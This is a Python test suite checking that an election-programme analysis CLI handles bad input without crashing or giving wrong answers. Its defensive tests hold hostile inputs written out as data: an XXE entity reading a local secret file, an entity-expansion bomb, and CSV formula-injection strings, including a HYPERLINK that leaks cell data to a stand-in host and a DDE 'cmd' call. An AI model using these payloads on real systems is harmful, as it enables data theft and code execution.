"""Bad input and misuse (issue 17): never a traceback, never a silent wrong answer.

Each test stands for one case of the issue; the CLI is run in this process (``cli.main``), and a
scan that must score programmes gets the cheap stand-in model (``fake_model``).
"""

from __future__ import annotations

import csv
import json
import os
import random
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import REPO_ROOT, SAMPLE_PROGRAMMES
from fakes import CountingEmbedder
from programmacheck.cli import EXIT_OK, EXIT_SOME_FAILED, EXIT_UNUSABLE, build_parser, main
from programmacheck.extract import ExtractionError, extract_file, ocr, one_line
from programmacheck.programmes import ManifestError, discover, programmes, read_manifest
from programmacheck.report import OUTPUT_FILES, PARTIAL, OutputFolder

sys.path.insert(0, str(REPO_ROOT / "benchmarks"))
from fuzz import REPORT_PEAK, giant_image_pdf  # noqa: E402  (the fuzz suite's, shared)

PROGRAMME_TEXT = (
    "Wonen Eerst is ons uitgangspunt: wie dakloos is krijgt direct een eigen woning met begeleiding.\n\n"
    "Schuldhulpverlening moet snel en zonder wachtlijst, met vroegsignalering van betalingsachterstanden.\n\n"
    "Dakloze EU-burgers krijgen opvang en hulp bij werk of terugkeer.\n"
)


def _scan(capsys, *argv: str) -> tuple[int, str, str]:
    status = main(["scan", *argv])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def _one_line_naming(err: str, name: str) -> None:
    """Every message is one line, and the last (the reason the command stopped) names ``name``."""
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines, "no message"
    assert "Traceback" not in err
    assert name in lines[-1], lines


@pytest.fixture
def fake_model(monkeypatch):
    """Scans score with the counting stand-in instead of loading the embedding model."""
    import programmacheck.batch as batch_package

    class StandInBatch(batch_package.Batch):
        def __init__(self, settings, out, on_result=None):
            super().__init__(settings, out, embedder=CountingEmbedder(), on_result=on_result)

    monkeypatch.setattr(batch_package, "Batch", StandInBatch)


def _programme(folder: Path, name: str = "testpartij.txt", text: str = PROGRAMME_TEXT) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def _unreadable(folder: Path, name: str = "kapot.pdf") -> Path:
    """A file that fails without a model being needed."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 4)
    return path


# --- silent wrong answers -------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"])
def test_a_text_file_in_any_unicode_encoding_reads_as_its_utf8_twin(tmp_path: Path, encoding: str):
    twin = _programme(tmp_path, "utf8.txt")
    other = tmp_path / "unicode.txt"
    other.write_bytes(PROGRAMME_TEXT.encode(encoding))
    assert extract_file(other).pages[0].lines == extract_file(twin).pages[0].lines


def test_a_binary_file_named_txt_is_refused_not_read_as_garbage(tmp_path: Path):
    path = tmp_path / "foto.txt"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    with pytest.raises(ExtractionError, match="binary data, not text"):
        extract_file(path)


def test_the_html_backend_runs_on_declared_dependencies_only():
    """trafilatura imports lxml.html.clean (through jusText), which lxml 5.2+ moved to the
    separate lxml_html_clean project: without the declaration a fresh install fails every HTML file."""
    loaded = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sys, programmacheck.extract.html_backend; print('lxml_html_clean' in sys.modules)",
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    assert loaded.stdout.strip() == "True"
    import programmacheck

    # the pyproject.toml beside the code under test (src/programmacheck/ is two folders down)
    pyproject = (Path(programmacheck.__file__).parents[2] / "pyproject.toml").read_text(encoding="utf-8")
    assert '"lxml-html-clean' in pyproject or "lxml[html_clean]" in pyproject


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_a_manifest_saved_by_excel_gives_its_metadata(tmp_path: Path, delimiter: str, bom: bytes):
    programme = _programme(tmp_path / "gr2026" / "lindewaard", "goed.txt")
    manifest = tmp_path / "manifest.csv"
    rows = [
        ["path", "election", "municipality", "party", "year"],
        ["gr2026/lindewaard/goed.txt", "gr2026", "Lindewaard", "Testpartij", "2026"],
    ]
    manifest.write_bytes(bom + "\r\n".join(delimiter.join(row) for row in rows).encode("utf-8") + b"\r\n")
    [found], refused = programmes([str(programme)], manifest)
    assert refused == [] and found.metadata["party"] == "Testpartij"


def test_a_manifest_without_a_path_column_is_refused(tmp_path: Path):
    manifest = tmp_path / "manifest.csv"
    manifest.write_text("pad|partij\nx.txt|Testpartij\n", encoding="utf-8")
    with pytest.raises(ManifestError, match="no 'path' column"):
        read_manifest(manifest)


def _checklist_with_term(tmp_path: Path, term: str) -> Path:
    import yaml

    from programmacheck.checklist import default_checklist_path

    data = yaml.safe_load(default_checklist_path().read_text(encoding="utf-8"))
    data["items"][0]["keywords"]["measure"].append(term)
    path = tmp_path / "checklist.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@pytest.mark.parametrize("term", ["**", "&&", "{onbekend}", "(daklo|thuislo)os", "wo\x00nen", "!?!"])
def test_scan_refuses_a_checklist_that_validate_rejects_and_leaves_nothing_behind(tmp_path: Path, capsys, term: str):
    checklist = _checklist_with_term(tmp_path, term)
    assert main(["checklist", "validate", str(checklist)]) == EXIT_UNUSABLE
    capsys.readouterr()
    out = tmp_path / "out"
    status, _, err = _scan(capsys, str(_programme(tmp_path / "in")), "--out", str(out), "--checklist", str(checklist))
    assert status == EXIT_UNUSABLE
    _one_line_naming(err, "unusable term")
    assert not out.exists() or not list(out.glob(f"*{PARTIAL}"))


def test_a_file_given_beside_its_folder_is_read_once(tmp_path: Path):
    folder = tmp_path / "gr2026" / "lindewaard"
    programme = _programme(folder)
    found, refused = programmes([str(folder), str(programme)])
    assert [p.files for p in found] == [(os.path.join(str(folder), programme.name),)] and refused == []


def test_a_second_scan_into_the_same_folder_stops_naming_the_first(tmp_path: Path, capsys):
    out = tmp_path / "out"
    first = OutputFolder(out)  # a scan that is writing
    try:
        status, _, err = _scan(capsys, str(_unreadable(tmp_path / "in")), "--out", str(out))
        assert status == EXIT_UNUSABLE
        _one_line_naming(err, f"another scan is writing to {out} (pid {os.getpid()})")
        assert sorted(p.name for p in out.glob(f"*{PARTIAL}")) == sorted(
            f"{n}{PARTIAL}" for n in OUTPUT_FILES if n != "run.json"
        )
    finally:
        first.close({})
    status, _, err = _scan(capsys, str(_unreadable(tmp_path / "in")), "--out", str(out))
    assert status == EXIT_SOME_FAILED, err


def test_the_lock_goes_with_a_killed_scan(tmp_path: Path, capsys):
    """The kernel drops an flock with its holder: a killed scan leaves no stale lock behind."""
    out = tmp_path / "out"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from programmacheck.report import OutputFolder; "
            f"folder = OutputFolder({str(out)!r}); print('locked', flush=True); time.sleep(60)",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "locked"
        assert _scan(capsys, str(_unreadable(tmp_path / "in")), "--out", str(out))[0] == EXIT_UNUSABLE
    finally:
        holder.kill()
        holder.wait()
    assert _scan(capsys, str(_unreadable(tmp_path / "in")), "--out", str(out))[0] == EXIT_SOME_FAILED


def test_a_programme_on_one_line_that_mentions_cookies_is_read_whole(tmp_path: Path):
    line = "Wij verbieden tracking cookies op gemeentelijke websites. " + PROGRAMME_TEXT.replace("\n", " ") * 5
    path = tmp_path / "een-regel.txt"
    path.write_text(line, encoding="utf-8")
    read = " ".join(entry.text for page in extract_file(path).pages for entry in page.lines)
    assert read.split() == line.split()


def test_a_cookie_banner_still_goes():
    from programmacheck.extract.boilerplate import drop_boilerplate

    banner = "Wij gebruiken cookies om je de beste ervaring op onze website te bieden. Accepteer je dat?"
    programme = PROGRAMME_TEXT.replace("\n", " ").strip()
    assert drop_boilerplate([banner, "", programme]) == [programme]


# --- one line, not a traceback --------------------------------------------------------------------


def _unwritable_out(tmp_path: Path, kind: str) -> Path:
    if kind == "a file":
        path = tmp_path / "a-file"
        path.write_text("x", encoding="utf-8")
        return path
    if kind == "under /proc":
        return Path("/proc/programmacheck-out")
    (tmp_path / "out" / "verdicts.csv").mkdir(parents=True)  # kind: its verdicts.csv is a folder
    return tmp_path / "out"


@pytest.mark.parametrize(
    ("kind", "said"),
    [("a file", "is a file"), ("under /proc", "cannot create"), ("verdicts.csv a folder", "is a folder")],
)
def test_an_output_folder_that_cannot_be_written_stops_in_one_line(tmp_path: Path, capsys, kind: str, said: str):
    out = _unwritable_out(tmp_path, kind)
    status, _, err = _scan(capsys, str(_unreadable(tmp_path / "in")), "--out", str(out))
    assert status == EXIT_UNUSABLE, err
    _one_line_naming(err, said)
    assert not out.is_dir() or not list(out.glob(f"*{PARTIAL}"))


def test_an_output_folder_in_a_read_only_place_stops_in_one_line(tmp_path: Path, capsys, monkeypatch):
    """As root a chmod'ed folder stays writable, so the refusal is what the system would say."""

    def refuse(self, *args, **kwargs):
        raise PermissionError(13, "Permission denied", str(self))

    monkeypatch.setattr(Path, "mkdir", refuse)
    status, _, err = _scan(capsys, str(tmp_path / "absent.pdf"), "--out", str(tmp_path / "read-only" / "out"))
    assert status == EXIT_UNUSABLE
    _one_line_naming(err, "cannot create the output folder: Permission denied")


def test_a_store_that_is_a_folder_stops_in_one_line(tmp_path: Path, capsys):
    (tmp_path / "store").mkdir()
    status, _, err = _scan(
        capsys, str(_unreadable(tmp_path / "in")), "--out", str(tmp_path / "out"), "--store", str(tmp_path / "store")
    )
    assert status == EXIT_UNUSABLE
    _one_line_naming(err, "the store is a folder")
    assert not list((tmp_path / "out").glob(f"*{PARTIAL}"))


def _unusable_manifest(tmp_path: Path, kind: str) -> Path:
    path = tmp_path / f"{kind}.csv"
    if kind == "a folder":
        path.mkdir()
    elif kind == "not UTF-8":
        path.write_bytes("path,party\nx.txt,Partij vóór Iedereen\n".encode("cp1252"))
    elif kind == "binary":
        path.write_bytes(b"\x00\x01PK\x03\x04" * 100)
    elif kind == "a huge field":
        path.write_text('path,party\nx.txt,"' + "a" * 200_000 + '"\n', encoding="utf-8")
    return path  # kind "missing": nothing there


@pytest.mark.parametrize(
    ("kind", "said"),
    [
        ("missing", "cannot read manifest"),
        ("a folder", "cannot read manifest"),
        ("not UTF-8", "not UTF-8"),
        ("binary", "binary"),
        ("a huge field", "field larger than"),
    ],
)
def test_a_manifest_that_cannot_be_used_stops_the_scan_in_one_line(tmp_path: Path, capsys, kind: str, said: str):
    manifest = _unusable_manifest(tmp_path, kind)
    status, _, err = _scan(
        capsys, str(_unreadable(tmp_path / "in")), "--out", str(tmp_path / "out"), "--manifest", str(manifest)
    )
    assert status == EXIT_UNUSABLE, err
    _one_line_naming(err, said)
    assert str(manifest) in err


def _damage(store: Path, how: str) -> None:
    if how == "truncated":
        data = store.read_bytes()
        store.write_bytes(data[: len(data) // 3])
    elif how == "garbage header":
        store.write_bytes(b"this is no database" + store.read_bytes()[19:])
    elif how == "wrong schema":
        store.unlink()
        with sqlite3.connect(store) as db:
            db.execute("CREATE TABLE files (name TEXT, size INTEGER)")
    elif how == "random bytes in pages":
        data = bytearray(store.read_bytes())
        page = 4096
        noise = random.Random(17)
        for offset in range(page, len(data), page):  # every page but the first (the header's)
            data[offset : offset + 64] = b"\xff" + noise.randbytes(63)  # 0xff: no b-tree page type
        store.write_bytes(bytes(data))


def _filled_store(tmp_path: Path, capsys) -> tuple[Path, Path, str]:
    inputs = tmp_path / "in"
    for number in range(40):
        _unreadable(inputs, f"kapot-{number:02}.pdf").write_bytes(b"%PDF-1.7\n" + os.urandom(2048))
    out = tmp_path / "out"
    assert _scan(capsys, str(inputs), "--out", str(out))[0] == EXIT_SOME_FAILED
    with sqlite3.connect(out / "store.sqlite") as db:
        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return inputs, out, (out / "failures.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize("how", ["truncated", "garbage header", "wrong schema", "random bytes in pages"])
def test_a_damaged_store_says_so_and_keeps_the_outputs(tmp_path: Path, capsys, how: str):
    inputs, out, before = _filled_store(tmp_path, capsys)
    _damage(out / "store.sqlite", how)
    status, _, err = _scan(capsys, str(inputs), "--out", str(out))
    assert status == EXIT_UNUSABLE
    _one_line_naming(err, "the store is damaged")
    assert "--rebuild-store" in err
    assert (out / "failures.csv").read_text(encoding="utf-8") == before and not list(out.glob(f"*{PARTIAL}"))


@pytest.mark.parametrize("how", ["truncated", "garbage header", "wrong schema", "random bytes in pages"])
def test_rebuild_store_moves_a_damaged_store_aside_and_rescans(tmp_path: Path, capsys, how: str):
    inputs, out, before = _filled_store(tmp_path, capsys)
    _damage(out / "store.sqlite", how)
    status, _, err = _scan(capsys, str(inputs), "--out", str(out), "--rebuild-store")
    assert status == EXIT_SOME_FAILED and "Traceback" not in err
    assert "was damaged; moved aside" in err
    assert len(list(out.glob("store.sqlite.damaged-*"))) >= 1
    assert sorted((out / "failures.csv").read_text(encoding="utf-8").splitlines()) == sorted(before.splitlines())


def test_rebuild_store_leaves_a_sound_store_in_place(tmp_path: Path, capsys):
    inputs, out, before = _filled_store(tmp_path, capsys)
    status, _, err = _scan(capsys, str(inputs), "--out", str(out), "--rebuild-store")
    assert status == EXIT_SOME_FAILED and "damaged" not in err and not list(out.glob("store.sqlite.damaged-*"))


def _unusable_checklist(tmp_path: Path, kind: str) -> Path:
    import yaml

    from programmacheck.checklist import default_checklist_path

    path = tmp_path / f"{kind}.yaml"
    if kind == "nested":
        path.write_text("a: " + "[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8")
    elif kind == "huge":
        data = yaml.safe_load(default_checklist_path().read_text(encoding="utf-8"))
        data["items"][0]["description"] = "woord " * 1_700_000  # 10 MB
        path.write_text(yaml.safe_dump(data), encoding="utf-8")
    elif kind == "not YAML":
        path.write_text("items: [\n", encoding="utf-8")
    return path  # kind "missing": nothing there


@pytest.mark.parametrize(
    ("kind", "said"),
    [("nested", "nested"), ("huge", "too large"), ("missing", "cannot read checklist"), ("not YAML", "not valid YAML")],
)
def test_a_checklist_that_cannot_be_loaded_stops_in_one_line_and_leaves_nothing_behind(
    tmp_path: Path, capsys, kind: str, said: str
):
    checklist = _unusable_checklist(tmp_path, kind)
    out = tmp_path / "out"
    status, _, err = _scan(capsys, str(_unreadable(tmp_path / "in")), "--out", str(out), "--checklist", str(checklist))
    assert status == EXIT_UNUSABLE
    _one_line_naming(err, said)
    assert not out.exists() or not list(out.glob(f"*{PARTIAL}"))


def test_a_long_description_is_refused_by_its_field(tmp_path: Path):
    import yaml

    from programmacheck.checklist import ChecklistError, default_checklist_path, load_checklist

    data = yaml.safe_load(default_checklist_path().read_text(encoding="utf-8"))
    data["items"][0]["description"] = "woord " * 100_000
    path = tmp_path / "long.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    with pytest.raises(ChecklistError, match="description"):
        load_checklist(path)


def test_names_that_are_not_utf8_or_hold_a_newline_fail_alone_in_one_line(tmp_path: Path, capsys):
    inputs = tmp_path / "in"
    _unreadable(inputs, "gewoon.pdf")
    not_utf8 = os.path.join(os.fsencode(inputs), b"partij-\xff.txt")
    Path(os.fsdecode(not_utf8)).write_text(PROGRAMME_TEXT, encoding="utf-8")
    _unreadable(inputs, "twee\nregels.pdf")
    out = tmp_path / "out"
    status, _, err = _scan(capsys, str(inputs), "--out", str(out))
    assert status == EXIT_SOME_FAILED
    errors = [line for line in err.splitlines() if line.startswith("error:")]
    assert len(errors) == 3 and "Traceback" not in err
    assert any("not valid UTF-8" in line and "partij-\\xff.txt" in line for line in errors)
    assert any("twee\\nregels.pdf" in line for line in errors)
    with open(out / "failures.csv", newline="", encoding="utf-8") as handle:
        assert len(list(csv.DictReader(handle))) == 3


def test_the_warning_that_party_names_are_file_names_keeps_a_name_with_a_newline_on_one_line(tmp_path: Path, caplog):
    _programme(tmp_path / "in", "twee\nregels.txt")
    with caplog.at_level("WARNING", logger="programmacheck.programmes"):
        programmes([str(tmp_path / "in")])
    [warning] = [record.getMessage() for record in caplog.records if "are file names" in record.getMessage()]
    assert "twee\\nregels.txt" in warning and "\n" not in warning


def test_extract_into_a_closed_pipe_ends_quietly(tmp_path: Path):
    long = _programme(tmp_path, "lang.md", "\n\n".join(f"Alinea {n} over wonen en zorg." for n in range(3000)))
    result = subprocess.run(
        f"{sys.executable} -m programmacheck.cli extract {long} | head -n 1",
        shell=True,
        capture_output=True,
        text=True,
        check=True,
    )
    assert result.stdout.count("\n") == 1 and "Error" not in result.stderr and "Traceback" not in result.stderr


def test_an_unreadable_file_is_reported_once_without_its_path_twice(tmp_path: Path, capsys):
    broken = _unreadable(tmp_path / "in", "notes.docx")
    status, out, err = _scan(capsys, str(broken), "--out", str(tmp_path / "out"))
    assert status == EXIT_SOME_FAILED
    mentions = [line for line in (out + err).splitlines() if str(broken) in line]
    assert len(mentions) == 1 and mentions[0].count(str(broken)) == 1, mentions
    assert "not a readable Word" in mentions[0]


@pytest.mark.parametrize(
    ("last_line", "reason"),
    [
        ("ocrmypdf.exceptions.InputFileError: the input file is damaged", "the input file is damaged"),
        ("TypeError: conversion from pikepdf._core.Object to Decimal is not supported", ocr.DAMAGED_FOR_OCR),
    ],
)
def test_an_ocr_failure_gives_ocrmypdf_s_reason_without_its_exception_name(
    tmp_path: Path, monkeypatch, last_line, reason
):
    """ocrmypdf's own message is the reason given, without its class name, which says nothing to
    a user; a fault inside it (a TypeError of pikepdf's) is said in plain words."""

    def failing_ocrmypdf(arguments, **kwargs):
        raise subprocess.CalledProcessError(2, arguments, "", f"Traceback (most recent call last):\n{last_line}\n")

    monkeypatch.setattr(ocr, "ocr_command", lambda: "ocrmypdf")
    monkeypatch.setattr(ocr.subprocess, "run", failing_ocrmypdf)
    pdf = SAMPLE_PROGRAMMES / "samen-lindewaard.pdf"
    with pytest.raises(ExtractionError) as raised:
        ocr.ocr_pdf(pdf, [1], tmp_path / "ocr.pdf")
    assert str(raised.value) == f"{pdf}: OCR failed on pages 1 ({reason})"


def _xml_docx(path: Path, document_xml: bytes) -> Path:
    """A .docx whose word/document.xml is ``document_xml`` (the rest from a blank document)."""
    import zipfile

    import docx

    blank = path.with_suffix(".blank.docx")
    docx.Document().save(str(blank))
    with zipfile.ZipFile(blank) as source, zipfile.ZipFile(path, "w") as target:
        for entry in source.infolist():
            data = document_xml if entry.filename == "word/document.xml" else source.read(entry)
            target.writestr(entry, data)
    return path


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def test_word_files_with_broken_xml_say_so_without_the_parser_s_name(tmp_path: Path):
    path = _xml_docx(tmp_path / "kapot.docx", b"<w:document " + W + b"><w:body><w:p>")
    with pytest.raises(ExtractionError) as raised:
        extract_file(path)
    message = str(raised.value)
    assert message.startswith(str(path)) and "XMLSyntaxError" not in message and "\n" not in message


def test_word_files_resolve_no_external_entity(tmp_path: Path):
    secret = tmp_path / "geheim.txt"
    secret.write_text("GEHEIM-WACHTWOORD", encoding="utf-8")
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://' + str(secret).encode() + b'">]>'
        b"<w:document " + W + b"><w:body><w:p><w:r><w:t>Wonen &x; voor iedereen</w:t></w:r></w:p></w:body></w:document>"
    )
    path = _xml_docx(tmp_path / "xxe.docx", xml)
    try:
        text = " ".join(line.text for page in extract_file(path).pages for line in page.lines)
    except ExtractionError:
        return  # refused: fine
    assert "GEHEIM" not in text


def test_word_files_expand_no_entity_bomb(tmp_path: Path):
    entities = b'<!ENTITY a0 "wonen wonen wonen wonen wonen wonen wonen wonen wonen wonen">' + b"".join(
        b'<!ENTITY a%d "' % n + b"&a%d;" % (n - 1) * 10 + b'">' for n in range(1, 10)
    )
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE d ['
        + entities
        + b"]><w:document "
        + W
        + b"><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    )
    path = _xml_docx(tmp_path / "bom.docx", xml)
    try:
        text = " ".join(line.text for page in extract_file(path).pages for line in page.lines)
    except ExtractionError:
        return  # refused: fine
    assert len(text) < 1_000_000


# --- messages -------------------------------------------------------------------------------------


def test_help_texts_and_the_empty_folder_error_name_every_readable_kind(tmp_path: Path, capsys):
    parser = build_parser()
    scan_help = parser._subparsers._group_actions[0].choices["scan"].format_help()
    eval_help = parser._subparsers._group_actions[0].choices["eval"].format_help()
    assert ".docx" in scan_help and ".html" in scan_help and ".docx" in parser.format_help()
    assert "95%" in eval_help and "95%%" not in eval_help
    (tmp_path / "leeg").mkdir()
    status, _, err = _scan(capsys, str(tmp_path / "leeg"), "--out", str(tmp_path / "out"))
    assert status == EXIT_UNUSABLE and ".docx" in err and ".html" in err
    readme = (REPO_ROOT / "README.md").read_text(encoding="utf-8")
    assert ".docx" in readme and ".html" in readme


def test_the_image_pages_warning_names_the_file_and_asks_nothing_the_tool_does_itself():
    from programmacheck.extract.layout import RawPage, build_document
    from programmacheck.records import Line

    text = tuple(Line(text=f"Regel {n} van een gewone pagina met genoeg woorden erop.") for n in range(8))
    pages = [
        RawPage(number=n, lines=text if n % 3 else (), width=595, height=842, images=0 if n % 3 else 1)
        for n in range(1, 13)
    ]
    [warning] = build_document(Path("programma.pdf"), pages).warnings
    assert warning.startswith("programma.pdf: 4 of 12 pages") and "OCR them first" not in warning


def test_a_batch_prints_a_line_per_programme_and_one_programme_its_table(tmp_path: Path, capsys, fake_model):
    inputs = tmp_path / "in"
    for name in ("a.txt", "b.txt", "c.txt"):
        _programme(inputs, name)
    status, out, _ = _scan(capsys, str(inputs), "--out", str(tmp_path / "many"))
    assert status == EXIT_OK
    lines = [line for line in out.splitlines() if "absent of 35 items" in line]
    assert len(lines) == 3 and len(out.splitlines()) == 5  # a line each, then the count and the batch line
    status, out, _ = _scan(capsys, str(inputs / "a.txt"), "--out", str(tmp_path / "one"))
    assert status == EXIT_OK and len(out.splitlines()) > 35


def test_eval_says_when_it_scores_programmes_the_model_was_fitted_on(tmp_path: Path, capsys):
    from programmacheck.checklist import load_checklist
    from programmacheck.evaluate import fitted_on

    fitted = fitted_on(tmp_path / "verdicts.csv")[0]  # no run.json: the bundled model
    items = [item.id for item in load_checklist().checklist.items]
    gold = tmp_path / "gold"
    gold.mkdir()
    (gold / "a.json").write_text(
        json.dumps({"document": fitted, "labels": [{"id": i, "label": "absent"} for i in items]}), encoding="utf-8"
    )
    verdicts = tmp_path / "verdicts.csv"
    with open(verdicts, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["document", "item_id", "verdict", "evidence_page", "evidence_quote"])
        writer.writerows([f"../shared/corpus/{fitted}", i, "absent", "", ""] for i in items)
    assert main(["eval", "--gold", str(gold), "--verdicts", str(verdicts), "--summary"]) == EXIT_OK
    assert "the verdict model was fitted on" in capsys.readouterr().out


# --- resources ------------------------------------------------------------------------------------


def test_only_regular_files_are_read(tmp_path: Path):
    fifo = tmp_path / "pijp.txt"
    os.mkfifo(fifo)
    with pytest.raises(ExtractionError, match="not a regular file"):
        extract_file(fifo)
    documents, refused = discover([str(fifo), "/dev/zero", str(tmp_path)])
    assert documents == [] and [message.split(": ", 1)[1] for _, message in refused] == ["not a regular file"] * 2


def test_a_text_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path: Path):
    from programmacheck.extract import MAX_BYTES

    big = tmp_path / "groot.txt"
    with open(big, "wb") as handle:
        handle.truncate(MAX_BYTES[".txt"] + 1)  # sparse: nothing is written, nothing may be read
    with pytest.raises(ExtractionError, match="too large") as refused:
        extract_file(big)
    size, limit = re.search(r"\(([\d.]+) MB; at most ([\d.]+) MB", str(refused.value)).groups()
    assert float(size) > float(limit), refused.value  # one byte over is not "10 MB; at most 10 MB"


def test_a_tiny_pdf_with_a_giant_image_is_refused_in_bounded_memory(tmp_path: Path):
    pdf = tmp_path / "reus.pdf"
    pdf.write_bytes(giant_image_pdf(46_000))
    assert pdf.stat().st_size < 1_000_000
    probe = REPORT_PEAK + (
        "import resource, sys; from programmacheck.extract import extract_file, ExtractionError\n"
        "resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))\n"  # old code took 6.3 GB: not here
        "try:\n    extract_file(sys.argv[1])\nexcept ExtractionError as e:\n    print(e)\n"
    )
    peak_file = tmp_path / "peak"
    result = subprocess.run(
        [sys.executable, "-c", probe, str(pdf)],
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "FUZZ_PEAK_FILE": str(peak_file)},
    )
    message = result.stdout.strip()
    assert message.startswith(str(pdf)) and "46000 × 46000 pixels" in message, result.stderr
    assert int(peak_file.read_text()) < 1000


def test_a_pdf_with_a_broken_page_tree_node_keeps_its_other_pages(tmp_path: Path, capsys):
    from test_extract import two_column_pdf

    source = two_column_pdf(tmp_path / "heel.pdf", pages=3).read_bytes()
    kids = b"/Kids [3 0 R\n5 0 R\n7 0 R]"
    assert kids in source
    broken = tmp_path / "gebroken.pdf"
    broken.write_bytes(source.replace(kids, b"/Kids [3 0 R\n9 0 R\n7 0 R]"))  # the second kid is no page
    document = extract_file(broken)
    assert [page.number for page in document.pages] == [1, 3]
    assert any(w.startswith(f"{broken}: page(s) 2 of 3 are damaged") for w in document.warnings)
    assert main(["extract", str(broken)]) == EXIT_OK
    assert "Traceback" not in capsys.readouterr().err


# --- injection ------------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://example.invalid/leak?"&A1, "klik")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "'t Is goed zo",
)


def test_programme_text_cannot_become_a_spreadsheet_formula(tmp_path: Path):
    """CSV cells that would run get an apostrophe; programmacheck's readers give the text back
    unchanged, and the XLSX stores it as text, never as a formula."""
    import openpyxl

    from programmacheck.exports import write_csv, write_xlsx
    from programmacheck.records import Evidence, ItemVerdict, Paragraph, Programme, ProgrammeResult
    from programmacheck.results import load_results

    items = [i for i in __import__("programmacheck.checklist", fromlist=["x"]).load_checklist().checklist.items]
    programme = Programme(document=FORMULAS[1], files=(FORMULAS[1],), metadata={"party": FORMULAS[0]})
    verdicts = [
        ItemVerdict(
            programme.document,
            item.id,
            item.theme,
            "addressed",
            0.9,
            tuple(Evidence(1, FORMULAS[2], quote, 0.9, ("keyword",)) for quote in FORMULAS),
        )
        for item in items
    ]
    out = OutputFolder(tmp_path / "out")
    out.add(ProgrammeResult(programme, [Paragraph(programme.document, 1, "", FORMULAS[0])], verdicts))
    out.close({})
    for name in ("verdicts.csv", "evidence.csv"):
        with open(tmp_path / "out" / name, newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    results = load_results(tmp_path / "out")
    assert set(results.evidence["quote"]) == set(FORMULAS) and set(results.verdicts["document"]) == {FORMULAS[1]}
    [tidy, _] = write_csv(results, tmp_path / "report")
    with open(tidy, newline="", encoding="utf-8") as handle:
        assert not [c for row in csv.reader(handle) for c in row if c[:1] in ("=", "+", "-", "@")]
    [workbook] = write_xlsx(results, tmp_path / "report")
    book = openpyxl.load_workbook(workbook)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {cell.value for cell in cells} >= set(FORMULAS[:4])


def test_one_line_escapes_what_would_break_a_line_or_a_csv():
    assert one_line("a\nb\tc") == "a\\nb\\tc"
    assert one_line(os.fsdecode(b"x-\xff.pdf")) == "x-\\xff.pdf"
    assert one_line("gewoon: één regel") == "gewoon: één regel"


def test_a_broken_web_page_gets_one_line_and_no_library_log(tmp_path: Path):
    page = tmp_path / "pagina.html"
    page.write_bytes(bytes(range(256)) * 64)
    result = subprocess.run(
        [sys.executable, "-m", "programmacheck.cli", "extract", str(page)], capture_output=True, text=True
    )
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert result.returncode == EXIT_SOME_FAILED and len(lines) == 1 and lines[0].startswith(f"error: {page}: ")


def test_extract_refuses_a_name_that_is_not_utf8_in_one_line(tmp_path: Path, capsys):
    name = Path(os.fsdecode(os.path.join(os.fsencode(tmp_path), b"partij-\xff.txt")))
    name.write_text(PROGRAMME_TEXT, encoding="utf-8")
    assert main(["extract", str(name)]) == EXIT_SOME_FAILED
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err.count("\n") == 1 and "not valid UTF-8" in captured.err


def test_a_paragraph_longer_than_spacy_takes_is_split_into_passages():
    """A programme saved on one line of a .txt file is one paragraph of megabytes; spaCy refuses
    texts over a million characters (E088), which failed the programme with spaCy's message."""
    from programmacheck.records import Paragraph
    from programmacheck.segment import passages

    sentence = "Wonen Eerst is ons uitgangspunt voor wie dakloos is. "
    text = sentence * (1_100_000 // len(sentence))
    found = passages([Paragraph("een-regel.txt", 1, "", text.strip())])
    assert len(found) > 1000 and {p.paragraph for p in found} == {0}
    assert " ".join(p.text for p in found).split() == text.split()


def test_a_text_whose_every_line_is_filtered_says_so_instead_of_empty(tmp_path: Path):
    path = tmp_path / "menu.txt"
    chrome = (
        "Volg ons op Facebook, Instagram en LinkedIn en blijf op de hoogte van al het nieuws uit de fractie "
        "en de gemeenteraad van Lindewaard"
    )
    path.write_text("\n".join([chrome, "Lees meer", "Deel dit artikel"] * 4), encoding="utf-8")  # saved web pages
    with pytest.raises(ExtractionError, match="no programme text"):
        extract_file(path)
